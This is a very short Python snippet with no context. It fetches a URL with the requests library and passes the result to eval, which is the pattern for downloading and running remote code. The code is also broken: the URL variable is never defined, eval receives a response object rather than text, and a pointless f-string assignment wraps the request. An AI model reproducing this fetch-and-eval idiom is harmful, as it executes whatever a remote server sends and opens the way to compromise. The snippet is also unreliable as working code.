import requests

z = f"{(b := requests.get(u))}"
eval(b)
